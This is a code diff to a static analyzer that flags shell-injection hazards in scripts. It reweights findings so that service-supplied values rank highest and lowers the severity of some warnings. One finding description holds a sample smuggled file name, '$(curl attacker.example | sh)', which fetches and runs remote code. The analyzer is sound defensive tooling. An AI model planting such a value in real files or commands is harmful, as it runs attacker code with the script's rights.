@@ -126,12 +126,14 @@ function hereOf(command: Command): { readonly parts?: Word['parts']; readonly te
 }
 
 function hazardOf({ rule, reader, words }: CodeWord, origins: Origins): ShellHazard[] {
+  const weight = (one: { readonly expansion: Expansion; readonly origin: ValueOrigin }): number =>
+    origins.isOfService(one.expansion) ? 2 : Number(one.origin === 'outside');
   const found = words.flatMap((word) => {
     const holes = expansionsIn(word).map((expansion) => ({ word, expansion, origin: origins.ofExpansion(expansion) }));
     // A download that is run is told as one.
     return holes.filter(({ origin, expansion }) => isForeign(origin) && !isNumber(expansion) && !isDownload(expansion));
   });
-  const [first] = found.toSorted((a, b) => Number(b.origin === 'outside') - Number(a.origin === 'outside'));
+  const [first] = found.toSorted((a, b) => weight(b) - weight(a));
   if (first === undefined) return [];
   const { expansion, origin, word } = first;
   const value = expansion.part.text;
@@ -145,9 +147,10 @@ function hazardOf({ rule, reader, words }: CodeWord, origins: Origins): ShellHaz
       failureScenario: {
         description: `${origin === 'outside' ? 'What is read there holds' : 'Somebody calls the script with'} \`${payload(rule)}\`: ${reader} runs it, with the rights of this script.`,
       },
-      severity: origin === 'outside' ? 'warning' : 'suggestion',
-      // What its own user hands over: see `OF_ITS_USER` of the sinks.
-      confidence: origin === 'outside' ? 700 : 200,
+      // All else is folded: it comes from the machine, its tools and its user (docs/precision.md).
+      ...(origins.isOfService(expansion)
+        ? { severity: 'warning', confidence: 700 }
+        : { severity: 'suggestion', confidence: 200 }),
     },
   ];
 }
@@ -214,7 +217,7 @@ function asCode(command: Command, value: string, what: string): ShellHazard {
       description:
         'Somebody makes a file, or a line, with the name `$(curl attacker.example | sh)`: the shell runs it, with the rights of this script.',
     },
-    severity: 'warning',
-    confidence: 700,
+    severity: 'suggestion',
+    confidence: 200,
   };
 }
